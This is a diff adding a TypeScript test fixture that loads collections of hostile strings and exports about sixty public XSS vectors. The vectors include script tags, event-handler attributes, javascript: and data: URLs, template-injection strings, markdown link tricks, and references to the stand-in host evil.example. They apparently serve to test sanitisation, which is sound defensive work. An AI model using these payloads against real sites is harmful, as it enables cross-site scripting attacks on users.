@@ -1,0 +1,86 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+
+const shared = join(import.meta.dirname, '..', '..', '..', 'shared', 'inputs', 'hostile');
+
+/** Whether the collections of hostile texts are there; they are no part of the project. */
+export const areCollectionsHere = existsSync(shared);
+
+/** All texts of the collections. */
+export const collectedTexts = (): string[] =>
+  [
+    'blns',
+    'js-xss-payloads',
+    'sanitize-html-payloads',
+    'markdown-it-xss',
+    'trojan-source',
+    'unicode-shapes',
+    'bidi-sample',
+  ].flatMap((name) => JSON.parse(readFileSync(join(shared, `${name}.json`), 'utf8')) as string[]);
+
+/** Public vectors: of OWASP's cheat sheet, PortSwigger's list and the usual ways out of an attribute, a script or a JSON text. */
+export const vectors: readonly string[] = [
+  '<script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '</script><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '--><script>alert(1)</script><!--',
+  ']]><script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)"',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<style>body { background: url(https://evil.example/x) }</style>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example/"><input autofocus onfocus=alert(1)><button>x</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<a href="javascript:alert(1)" id=x autofocus onfocus=alert(1) tabindex=1>x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<p style="background:url(https://evil.example/x)" onmouseover=alert(1)>x</p>',
+  '<thread-view data-knows onclick=alert(1)><comment-form data-path="//evil.example"></comment-form></thread-view>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<dialog open onclose=alert(1)>x</dialog>',
+  '[x](javascript:alert(1))',
+  '[x](<javascript:alert(1)>)',
+  '![x](https://evil.example/"onerror="alert(1))',
+  '![x" onerror="alert(1)](x)',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '<javascript:alert(1)>',
+  '`<img src=x onerror=alert(1)>`',
+  '%sveltekit.body%',
+  '%site.theme%" onload="alert(1)',
+  '{@html "<script>alert(1)</script>"}',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}',
+  '\u003cscript\u003ealert(1)\u003c/script\u003e',
+  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '＜script＞alert(1)＜/script＞',
+  "$&$`$'<script>alert(1)</script>",
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<x onclick=alert(1) contenteditable>x</x>',
+  '"autofocus onfocus=alert(1) x="',
+  "'-alert(1)-'",
+  '\\";alert(1);//',
+  'javascript:alert(1)',
+];
